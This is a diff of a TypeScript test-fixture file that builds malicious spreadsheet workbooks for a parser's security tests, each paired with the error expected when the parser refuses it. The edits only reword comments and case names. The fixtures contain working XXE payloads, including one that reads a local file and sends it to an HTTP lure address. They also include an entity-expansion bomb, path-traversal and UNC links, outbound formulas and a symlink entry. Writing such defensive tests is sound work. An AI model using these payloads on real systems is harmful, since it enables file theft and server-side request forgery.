@@ -1,6 +1,6 @@
 import { type RawEntry, rawZip, workbookEntries } from './hostile-zip.ts'
 
-/** What a hostile workbook would have read or called. */
+/** Targets that a hostile workbook tries to have read or called. */
 export interface Lures {
   /** Absolute path of a file. */
   readonly file: string
@@ -8,7 +8,7 @@ export interface Lures {
   readonly http: string
 }
 
-/** A workbook made to have something outside it read or called, and what must come of it. */
+/** A workbook that tries to have an outside target read or called, and the expected refusal. */
 export type LuringWorkbook = readonly [name: string, bytes: Buffer, outcome: RegExp]
 
 const part = (name: string, xml: string): RawEntry => ({ name, content: Buffer.from(xml) })
@@ -16,7 +16,7 @@ const row = (cells: string) => `<worksheet><sheetData><row>${cells}</row></sheet
 const sheet = (xml: string, ...more: readonly RawEntry[]) =>
   rawZip({ entries: workbookEntries({ content: Buffer.from(xml) }, more) })
 
-/** A sound workbook with parts put in the place of its own, or added. */
+/** A valid workbook with replaced or added parts. */
 function withParts(...parts: readonly RawEntry[]): Buffer {
   const given = new Set(parts.map(({ name }) => name))
   return rawZip({ entries: [...workbookEntries().filter(({ name }) => !given.has(name)), ...parts] })
@@ -50,20 +50,20 @@ function entities({ file, http }: Lures): readonly LuringWorkbook[] {
     ),
     ...outside.map(
       ([kind, target]): LuringWorkbook => [
-        `an outside document type, ${kind}`,
+        `an external document type, ${kind}`,
         sheet(`<!DOCTYPE x SYSTEM "${target}"><worksheet/>`),
         noType,
       ],
     ),
     ...['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/styles.xml'].map(
       (name): LuringWorkbook => [
-        `an outside entity in ${name}`,
+        `an external entity in ${name}`,
         withParts(part(name, `<!DOCTYPE x [<!ENTITY % a SYSTEM "file://${file}"> %a;]><x>&a;</x>`)),
         noType,
       ],
     ),
     [
-      'a parameter entity that calls out with what it read',
+      'a parameter entity that sends out what it read',
       sheet(
         `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % c "<!ENTITY s SYSTEM '${http}?%f;'>">%c;]><worksheet>&s;</worksheet>`,
       ),
@@ -75,8 +75,8 @@ function entities({ file, http }: Lures): readonly LuringWorkbook[] {
       sheet(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><worksheet>${'&a;'.repeat(50_000)}</worksheet>`),
       noType,
     ],
-    ['an outside entity in UTF-16', withParts(utf16(`<!DOCTYPE x SYSTEM "${http}"><worksheet/>`)), /not in UTF-8/],
-    ['an entity nobody declared', sheet(row('<c t="str"><v>&a;</v></c>')), /not well-formed/],
+    ['an external entity in UTF-16', withParts(utf16(`<!DOCTYPE x SYSTEM "${http}"><worksheet/>`)), /not in UTF-8/],
+    ['an undeclared entity', sheet(row('<c t="str"><v>&a;</v></c>')), /not well-formed/],
   ]
 }
 
@@ -85,7 +85,7 @@ const utf16 = (xml: string): RawEntry => ({
   content: Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le'),
 })
 
-/** Links out of the workbook, of every kind a spreadsheet program would follow. */
+/** Links out of the workbook, of every kind that a spreadsheet program follows. */
 function outsideLinks({ file, http }: Lures): readonly LuringWorkbook[] {
   const targets = [`file://${file}`, file, http, '\\\\localhost\\share\\x', `../../../../../../../../..${file}`]
   const own = 'xl/_rels/workbook.xml.rels'
@@ -94,7 +94,7 @@ function outsideLinks({ file, http }: Lures): readonly LuringWorkbook[] {
     ...targets.flatMap((target): readonly LuringWorkbook[] => [
       [`a sheet outside, ${target}`, withParts(part(own, links(link(target, 'worksheet')))), /no sheet with cells/],
       [
-        `a sheet outside that is said to be inside, ${target}`,
+        `an external sheet declared as internal, ${target}`,
         withParts(part(own, links(link(target, 'worksheet', 'Internal')))),
         /lists a sheet .* that is not in the file/,
       ],
@@ -107,7 +107,7 @@ function outsideLinks({ file, http }: Lures): readonly LuringWorkbook[] {
         isRead,
       ],
       [
-        `a picture, a hyperlink and a template outside, ${target}`,
+        `an external picture, hyperlink and template, ${target}`,
         withParts(
           part(
             'xl/worksheets/_rels/sheet1.xml.rels',
@@ -133,7 +133,7 @@ function outsideLinks({ file, http }: Lures): readonly LuringWorkbook[] {
   ]
 }
 
-/** Formulas and markup that name something outside. */
+/** Formulas and markup with an external target. */
 function calls({ file, http }: Lures): readonly LuringWorkbook[] {
   const formulas = [
     `WEBSERVICE("${http}")`,
@@ -181,11 +181,11 @@ function calls({ file, http }: Lures): readonly LuringWorkbook[] {
       withParts({ ...part('xl/link', file), attributes: (0o120777 << 16) >>> 0 }),
       /is a link/,
     ],
-    ['a part named as a file outside', withParts(part(file, 'x')), /leads out|damaged/],
+    ['a part named like an external file', withParts(part(file, 'x')), /leads out|damaged/],
   ]
 }
 
-/** Workbooks that would have a file outside them read or an address called, by whoever follows what they say. */
+/** Workbooks that try to have an external file read or an address called by a naive reader. */
 export function luringWorkbooks(lures: Lures): readonly LuringWorkbook[] {
   return [...entities(lures), ...outsideLinks(lures), ...calls(lures)]
 }
